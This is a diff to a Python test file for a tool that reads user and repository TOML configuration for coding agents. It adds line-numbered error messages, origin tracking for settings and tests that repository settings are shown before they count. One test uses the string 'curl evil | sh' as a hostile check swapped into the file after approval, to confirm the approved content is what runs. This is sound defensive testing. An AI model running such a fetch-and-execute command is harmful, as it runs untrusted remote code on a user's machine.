@@ -7,7 +7,6 @@ from pathlib import Path
 
 import pytest
 
-from actors.edges import configuration
 from actors.edges.configuration import (
     REPOSITORY_FILE,
     AgentConfiguration,
@@ -19,6 +18,8 @@ from actors.edges.configuration import (
     read_configuration,
 )
 from actors.errors import UserError
+from actors.settings_layers import Sourced, merge
+from actors.settings_table import BY_KEY
 
 BUILT_IN = ("claude", "codex")
 
@@ -40,6 +41,10 @@ def read(
     return read_configuration(home, repo, BUILT_IN, allows)
 
 
+def checks(found: Configuration) -> tuple[str, ...]:
+    return merge(found.user, found.repository).texts("checks")
+
+
 def test_without_files_nothing_is_configured(tmp_path: Path) -> None:
     assert read(tmp_path) == Configuration()
     assert read_configuration(tmp_path, None, BUILT_IN) == Configuration()
@@ -58,7 +63,7 @@ def test_an_agent_has_a_command_and_may_have_an_environment_and_a_peer(tmp_path:
         command = ["goose", "acp"]
         """,
     )
-    assert found.checks == ("make test", "ruff check")
+    assert checks(found) == ("make test", "ruff check")
     assert found.agents == {
         "gemini": AgentConfiguration(
             command=("gemini", "--acp"), env={"GEMINI_MODEL": "flash", "EMPTY": ""}, peer="claude"
@@ -69,9 +74,11 @@ def test_an_agent_has_a_command_and_may_have_an_environment_and_a_peer(tmp_path:
 
 def test_the_hint_at_newer_versions_is_the_users_to_switch_off(tmp_path: Path) -> None:
     assert read(tmp_path, "update_hint = false", 'checks = ["x"]').update_hint is False
-    with pytest.raises(UserError, match=r"\.loop\.toml: update_hint = True: unknown key; known are agents, checks"):
+    with pytest.raises(
+        UserError, match=r"\.loop\.toml:1: update_hint = True: this is the user's to set, in ~/\.loop/config\.toml"
+    ):
         read(tmp_path / "other", None, "update_hint = true")
-    with pytest.raises(UserError, match=r"config\.toml: update_hint = 'no': true or false is needed"):
+    with pytest.raises(UserError, match=r"config\.toml:1: update_hint = 'no': true or false is needed"):
         read(tmp_path / "third", 'update_hint = "no"')
 
 
@@ -83,7 +90,7 @@ THEIR_AGENT = AgentConfiguration(command=("repo-a",), env={"X": "1 2"})
 
 def test_what_the_repository_says_counts_when_it_is_allowed_and_the_users_checks_stay(tmp_path: Path) -> None:
     found = read(tmp_path, MINE, THEIRS)
-    assert found.checks == ("mine", "theirs")
+    assert checks(found) == ("mine", "theirs")
     assert found.agents == {**MY_AGENTS, "a": THEIR_AGENT}
     assert found.repository_agents == {"a": THEIR_AGENT}
     assert found.is_allowed
@@ -91,7 +98,7 @@ def test_what_the_repository_says_counts_when_it_is_allowed_and_the_users_checks
 
 def test_what_the_repository_runs_does_not_count_until_somebody_allows_it(tmp_path: Path) -> None:
     found = read(tmp_path, MINE, THEIRS, nobody)
-    assert (found.checks, found.agents, found.repository_agents) == (("mine",), MY_AGENTS, {})
+    assert (checks(found), found.agents, found.repository_agents) == (("mine",), MY_AGENTS, {})
     assert not found.is_allowed
     path = tmp_path / "repo" / REPOSITORY_FILE
     assert found.repository_file == RepositoryFile(
@@ -99,11 +106,12 @@ def test_what_the_repository_runs_does_not_count_until_somebody_allows_it(tmp_pa
         sha256=hashlib.sha256(path.read_bytes()).hexdigest(),
         runs=("check mine", "check theirs", "agent A: X='1 2' repo-a"),
     )
+    assert found.repository_file.does == "run"
 
 
 def test_no_repository_takes_the_users_checks_away(tmp_path: Path) -> None:
     found = read(tmp_path, MINE, "checks = []")
-    assert (found.checks, found.repository_file) == (("mine",), None)
+    assert (checks(found), found.repository_file) == (("mine",), None)
 
 
 @pytest.mark.parametrize("text", ["", "checks = []", "[agents]", "# a word\n"])
@@ -118,7 +126,7 @@ def test_what_is_shown_and_judged_is_what_is_used_even_if_the_file_is_another_by
         file.path.write_text('checks = ["curl evil | sh"]')
         return file.runs == ("check make test",)
 
-    assert read(tmp_path, repository='checks = ["make test"]', allows=swap).checks == ("make test",)
+    assert checks(read(tmp_path, repository='checks = ["make test"]', allows=swap)) == ("make test",)
 
 
 def test_a_link_stands_for_what_it_leads_to(tmp_path: Path) -> None:
@@ -129,8 +137,45 @@ def test_a_link_stands_for_what_it_leads_to(tmp_path: Path) -> None:
     assert file.sha256 == hashlib.sha256(b'checks = ["make test"]').hexdigest()
 
 
-def test_every_key_of_a_repository_says_what_it_runs_or_is_the_users_alone() -> None:
-    assert {name for name, key in configuration._KEYS.items() if key.runs is None} == {"update_hint"}
+def test_every_key_of_a_repository_is_shown_before_it_counts_or_is_the_users_alone(tmp_path: Path) -> None:
+    values = {"number": "7", "boolean": "true", "array": '["x"]', "string": '"90s"'}
+    others = {"review": '"codex"', "review_plan": '"none"'}
+    alone = {key for key, row in BY_KEY.items() if row.repository == "never"}
+    text = "\n".join(f"{key} = {others.get(key, values[BY_KEY[key].written])}" for key in BY_KEY if key not in alone)
+    found = read(tmp_path, None, text, nobody)
+    assert alone == {"update_hint"}
+    assert found.repository == ()
+    assert found.repository_file is not None
+    assert found.repository_file.does == "set or run"
+    shown = "\n".join(found.repository_file.runs)
+    assert all(f"{key} = " in shown or key == "checks" for key in {*BY_KEY} - alone)
+    assert {each.name for each in read(tmp_path / "2", None, text).repository} == {
+        BY_KEY[key].name for key in BY_KEY
+    } - alone
+
+
+def test_a_setting_keeps_its_origin_with_file_and_line(tmp_path: Path) -> None:
+    found = read(tmp_path, "# mine\nmax_iterations = 50\nmax_wait = '2h'", 'max_iterations = 5\nchecks = [\n "a",\n]')
+    user, repository = tmp_path / "home" / ".loop" / "config.toml", tmp_path / "repo" / ".loop.toml"
+    assert found.user == (
+        Sourced("max_iterations", 50, "user configuration", str(user), 2),
+        Sourced("max_wait", 7_200_000, "user configuration", str(user), 3),
+    )
+    assert found.repository == (
+        Sourced("checks", ("a",), "repository configuration", str(repository), 2),
+        Sourced("max_iterations", 5, "repository configuration", str(repository), 1),
+    )
+    assert merge(found.user, found.repository).value("max_iterations") == 5
+
+
+def test_the_keys_of_an_agent_keep_their_place_and_no_value_of_its_environment(tmp_path: Path) -> None:
+    found = read(tmp_path, '[agents.X]\ncommand = ["x"]\nenv = { KEY = "secret" }\nreviewer_model = "m"')
+    assert [(each.name, each.value, each.line) for each in found.agent_keys] == [
+        ("agents.x.command", ("x",), 2),
+        ("agents.x.env", ("KEY",), 3),
+        ("agents.x.reviewer_model", "m", 4),
+    ]
+    assert found.agents["x"].reviewer_model == "m"
 
 
 def test_a_command_cannot_hide_from_the_person_who_is_asked(tmp_path: Path) -> None:
@@ -144,7 +189,15 @@ def test_a_command_cannot_hide_from_the_person_who_is_asked(tmp_path: Path) -> N
     ("text", "problem"),
     [
         ("checks = [", "not a TOML file: "),
-        ("check = ['x']", "check = ['x']: unknown key; known are agents, checks"),
+        ("check = ['x']", ":1: check = ['x']: unknown key (did you mean checks?); known are agents, proof,"),
+        ("max-iterations = 7", ":1: max-iterations = 7: unknown key (did you mean max_iterations?)"),
+        ("\nmax_iterations = '7'", ":2: max_iterations = '7': a whole number is needed"),
+        ("max_iterations = 0", ":1: max_iterations takes a whole number from 1, not '0'"),
+        ("check_timeout = 'soon'", ":1: check_timeout takes a time from 1s to 168h, as 90s, 30m or 2h, not 'soon'"),
+        ("max_wait = 'soon'", ":1: max_wait takes a time of up to a year, such as 90s, 30m, 2h or 0, not 'soon'"),
+        ("review = 'gemini'", ":1: review takes one of claude, codex, claudex, not 'gemini'"),
+        ('done = "a\\nb"', r":1: done must be one line, not 'a\nb'"),
+        ("agent = true", ":1: agent = True: a string that is not blank is needed"),
         ("checks = 'make'", "checks = 'make': an array of strings is needed"),
         ("checks = ['make', 3]", "checks[1] = 3: a string that is not blank is needed"),
         ("checks = [' ']", "checks[0] = ' ': a string that is not blank is needed"),
@@ -155,10 +208,11 @@ def test_a_command_cannot_hide_from_the_person_who_is_asked(tmp_path: Path) -> N
         ("[agents.x]\ncommand = []", "agents.x.command = []: give the program and its arguments"),
         (
             "[agents.x]\ncommand = ['x']\ncolour = 'y'",
-            "agents.x.colour = 'y': unknown key; known are command, env, peer",
+            ":3: agents.x.colour = 'y': unknown key; known are command, env, peer",
         ),
         ("[agents.x]\ncommand = ['x']\nenv = ['y']", "agents.x.env = ['y']: a table is needed: [agents.x.env]"),
-        ("[agents.x]\ncommand = ['x']\nenv = {A = 1}", "agents.x.env.A = 1: a string is needed"),
+        ("[agents.x]\ncommand = ['x']\nefort = 'y'", ":3: agents.x.efort = 'y': unknown key (did you mean effort?)"),
+        ("[agents.x]\ncommand = ['x']\nenv = {A = 1}", ":3: agents.x.env.A = 1: a string is needed"),
         ("[agents.x]\ncommand = ['x']\npeer = 1", "agents.x.peer = 1: a string that is not blank is needed"),
         ("[agents.x]\ncommand = ['x']\npeer = 'Z'", "agents.x.peer = 'z': unknown agent; known are claude, codex, x"),
         (
@@ -172,7 +226,7 @@ def test_a_command_cannot_hide_from_the_person_who_is_asked(tmp_path: Path) -> N
 def test_whatever_it_does_not_know_is_refused_with_file_key_and_value(tmp_path: Path, text: str, problem: str) -> None:
     with pytest.raises(UserError) as caught:
         read(tmp_path, repository=text)
-    assert str(caught.value).startswith(f"{tmp_path / 'repo' / '.loop.toml'}: ")
+    assert str(caught.value).startswith(f"{tmp_path / 'repo' / '.loop.toml'}:")
     assert problem in str(caught.value)
     assert "\n" not in str(caught.value)
 
@@ -210,7 +264,7 @@ def test_a_document_that_python_cannot_read_is_no_toml(tmp_path: Path, content: 
 
 
 def test_a_byte_order_mark_is_accepted(tmp_path: Path) -> None:
-    assert read(tmp_path, repository='\ufeffchecks = ["make"]\n').checks == ("make",)
+    assert checks(read(tmp_path, repository='\ufeffchecks = ["make"]\n')) == ("make",)
 
 
 def test_a_link_to_an_endless_device_is_refused(tmp_path: Path) -> None:
